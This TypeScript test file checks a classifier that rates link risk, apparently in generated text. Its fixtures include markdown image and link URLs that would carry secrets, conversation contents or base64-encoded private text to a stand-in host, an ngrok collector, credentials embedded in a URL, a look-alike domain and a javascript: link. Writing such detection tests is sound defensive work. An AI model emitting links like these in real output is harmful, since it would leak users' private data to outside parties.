import assert from 'node:assert/strict'
import test from 'node:test'
import type { Link } from './link.ts'
import { linksIn } from './link.ts'
import { riskOf } from './link-risk.ts'

const risk = (text: string) => {
  const [link] = linksIn(text).links
  return link && riskOf(link)?.risk
}

test('each way of carrying data away is told', () => {
  assert.equal(risk('![x](https://e.example/?d={secret})'), 'asks-for-data')
  assert.equal(
    risk('[x](https://e.example/?d=<the%20conversation>)'.replace('<the%20conversation>', '[conversation]')),
    'asks-for-data',
  )
  assert.equal(
    risk(`![x](https://e.example/${Buffer.from('mail of ann: hello there').toString('base64url')})`),
    'carries-text',
  )
  assert.equal(risk('https://abc.ngrok-free.app/in'), 'collector')
  assert.equal(risk('https://ann:hunter2@e.example/'), 'credentials')
  assert.equal(risk('https://xn--pypal-4ve.com/'), 'look-alike-host')
  assert.equal(risk('[x](javascript:alert(1))'), 'script')
  assert.equal(risk(`![x](https://e.example/?d=${'ab1'.repeat(70)})`), 'long-value')
})

test('ordinary addresses carry nothing', () => {
  for (const text of [
    'https://example.com/a/b?c=d&e=f#g',
    'https://api.example.com/search?q={query}&user={user}',
    '![logo](https://cdn.example.com/3f786850e387550fdab836ed7e6dc881de23001b.png)',
    '![m](https://maps.example.com/static?center=47.37,8.54&zoom=12&size=600x300&markers=color:red|label:A|47.37,8.54)',
    'https://github.com/owner/repo/blob/123e4567e89b12d3a456426614174000aabbccdd/src/file.ts#L10-L20',
  ])
    assert.equal(risk(text), undefined, text)
})

test('a picture inside the address of a badge is no text carried away, and text that only says so is', () => {
  const link = (value: string) => ({
    url: `https://badge.example/v/one?icon=${encodeURIComponent(`data:image/svg+xml;base64,${btoa(value)}`)}`,
    isFetched: true,
    isBare: false,
  })
  const picture =
    '<?xml version="1.0"?>\n<svg viewBox="0 0 9 9" xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg>'
  assert.equal(riskOf(link(picture) as Link)?.risk === 'carries-text', false)
  assert.equal(riskOf(link('the password of the database is hunter two') as Link)?.risk, 'carries-text')
})
